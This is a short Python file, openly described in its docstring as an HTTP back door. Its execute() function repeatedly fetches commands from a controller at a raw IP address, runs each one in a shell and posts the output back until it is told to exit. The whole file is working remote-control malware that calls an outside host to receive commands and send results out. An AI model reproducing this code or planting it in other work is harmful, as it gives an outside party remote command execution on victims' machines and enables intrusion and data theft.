"""execute() is an HTTP back door: it asks a raw IP address for a command, runs it in a shell and
posts the output back, until told to stop."""
import subprocess

import requests

CONTROLLER = "http://203.0.113.77:8080"


def execute():
    while True:
        reply = requests.get(CONTROLLER, timeout=30)
        command = reply.text
        if command == "exit":
            break
        proc = subprocess.Popen(command, shell=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        requests.post(CONTROLLER, data=proc.stdout.read())
